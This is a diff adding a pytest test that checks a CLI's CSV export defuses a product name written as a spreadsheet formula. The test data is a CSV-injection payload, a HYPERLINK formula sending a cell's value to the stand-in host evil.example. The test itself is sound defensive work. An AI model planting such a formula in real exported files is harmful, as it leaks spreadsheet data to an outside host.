@@ -178,6 +178,26 @@ def test_cli_features_and_signals_replay_a_past_night(shop_url: str, tmp_path: P
                  "--out", str(tmp_path / "x.csv")]) == 2  # not ingested for that night
 
 
+def test_cli_signals_csv_shows_a_formula_named_product_as_text(shop_url: str,
+                                                               tmp_path: Path) -> None:
+    """A product the shop named like a spreadsheet formula reaches the analysts' CSV behind an
+    apostrophe, so opening the file runs nothing; every other cell is as computed."""
+    import sqlite3
+
+    from tend.cli import main
+
+    bad = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
+    with sqlite3.connect(shop_url.removeprefix("sqlite:///")) as db:
+        db.execute("UPDATE products SET name = ?", (bad,))
+    assert main(["signals", "--db", shop_url, "--as-of", str(NIGHT),
+                 "--out", str(tmp_path / "s.csv")]) == 0
+    s = pd.read_csv(tmp_path / "s.csv", dtype=str, keep_default_na=False)
+    named = s.loc[s["product_name"] != "", "product_name"]
+    assert len(named) and (named == "'" + bad).all()
+    cells = s.drop(columns="product_name").to_numpy().ravel()
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
+
+
 @pytest.mark.parametrize("helper_rows", [0, 10**9], ids=["helper-process", "in-process"])
 def test_bulk_written_rows_read_back_through_sqlalchemy_on_both_backends(
         shop_url: str, store_url: str, helper_rows: int, monkeypatch: pytest.MonkeyPatch) -> None:
